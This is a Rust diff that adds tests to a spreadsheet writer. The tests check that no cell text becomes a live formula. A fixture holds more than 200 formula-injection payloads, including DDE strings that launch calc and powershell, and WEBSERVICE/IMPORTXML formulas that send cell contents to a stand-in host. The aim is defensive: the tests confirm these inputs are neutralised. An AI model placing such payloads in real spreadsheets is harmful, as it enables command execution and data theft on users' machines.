@@ -261,3 +261,101 @@ fn escape(text: &str, out: &mut String) {
         }
     }
 }
+
+#[cfg(test)]
+pub mod tests {
+    use super::*;
+    use jiff::civil::datetime;
+    use std::io::{Cursor, Read};
+
+    /// A part of a workbook, as text.
+    pub fn part(file: &[u8], name: &str) -> String {
+        let mut archive = zip::ZipArchive::new(Cursor::new(file)).unwrap();
+        let mut text = String::new();
+        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+        text
+    }
+    /// The texts of a sheet, unescaped.
+    fn texts(sheet: &str) -> Vec<String> {
+        let all = sheet.split("<t xml:space=\"preserve\">").skip(1);
+        let plain = |text: &str| {
+            let text = text.split("</t>").next().unwrap();
+            let text = text.replace("_x000D_", "\r").replace("_x005F_", "_");
+            text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
+        };
+        all.map(plain).collect()
+    }
+    fn text(text: &str) -> Cell {
+        Cell::Text(text.into())
+    }
+
+    /// What spreadsheets would run, 200 and more.
+    pub fn formulas() -> Vec<String> {
+        let begins = [
+            "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "\u{feff}=", "＝", "＋", "－", "＠", "|", "%", "=\t", "==",
+            "-+", "@@",
+        ];
+        let bodies = [
+            "1+1",
+            "HYPERLINK(\"http://x.example\";\"y\")",
+            "cmd|' /C calc'!A0",
+            "SUM(A1:A9)",
+            "WEBSERVICE(\"http://x.example/\"&A1)",
+            "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
+            "2+5+cmd|' /C powershell'!A0",
+            "1;2,3",
+            "\"a\"\"b\"",
+            "DDE(\"a\";\"b\";\"c\")",
+            "<f>1</f>",
+        ];
+        begins.iter().flat_map(|begin| bodies.map(|body| format!("{begin}{body}"))).collect()
+    }
+
+    #[test]
+    fn no_text_is_a_formula() {
+        let formulas = formulas();
+        assert!(formulas.len() >= 200);
+        let mut book = Book::new("Tickets", vec![text("=HEAD()")]).unwrap();
+        for formula in &formulas {
+            book.row(&[text(formula)]).unwrap();
+        }
+        let file = book.finish().unwrap();
+        let sheet = part(&file, "xl/worksheets/sheet1.xml");
+        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no cell is a formula");
+        assert_eq!(sheet.matches("<c").count() - sheet.matches("<col").count(), formulas.len() + 1);
+        assert_eq!(sheet.matches("t=\"inlineStr\"").count(), formulas.len() + 1);
+        let expected: Vec<_> = std::iter::once("=HEAD()".to_owned()).chain(formulas).collect();
+        assert_eq!(texts(&sheet), expected, "each says what it said");
+    }
+    #[test]
+    fn cells_are_what_they_are_and_the_head_stays() {
+        let mut book = Book::new("A & B", vec![text("Number"), text("Time")]).unwrap();
+        let at = datetime(2026, 11, 25, 18, 0, 0, 0);
+        book.row(&[Cell::Whole(7), Cell::Time(at), Cell::Date(at.date()), Cell::Decimal(1.5), Cell::Empty]).unwrap();
+        book.row(&[text("\u{1}a_x0041_\r\n<&\u{ffff}")]).unwrap();
+        let file = book.finish().unwrap();
+        let sheet = part(&file, "xl/worksheets/sheet1.xml");
+        assert!(sheet.contains("state=\"frozen\""));
+        // 46351 is 2026-11-25 in every spreadsheet; three quarters of a day are 18:00.
+        assert!(sheet.contains("<c><v>7</v></c><c s=\"1\"><v>46351.75</v></c><c s=\"2\"><v>46351</v></c><c><v>1.5</v></c><c/>"), "{sheet}");
+        assert_eq!(texts(&sheet).last().unwrap(), "a_x0041_\r\n<&");
+        assert!(part(&file, "xl/workbook.xml").contains("name=\"A &amp; B\""));
+        assert!(part(&file, "[Content_Types].xml").contains("/xl/worksheets/sheet1.xml"));
+    }
+    #[test]
+    fn what_is_in_memory_is_a_part_of_it() {
+        let mut book = Book::new("Tickets", vec![text("Subject")]).unwrap();
+        let (mut most, mut all) = (0, 0);
+        for number in 0..40_000u64 {
+            // Text that does not pack well.
+            let noise = number.wrapping_mul(0x9E37_79B9_7F4A_7C15);
+            book.row(&[text(&format!("{noise:x}{:x}", noise.rotate_left(17) ^ number))]).unwrap();
+            if number % 500 == 499 {
+                let ready = book.take().len();
+                (most, all) = (most.max(ready), all + ready);
+            }
+        }
+        all += book.finish().unwrap().len();
+        assert!(all > 500_000 && most < all / 5, "{most} of {all}");
+    }
+}
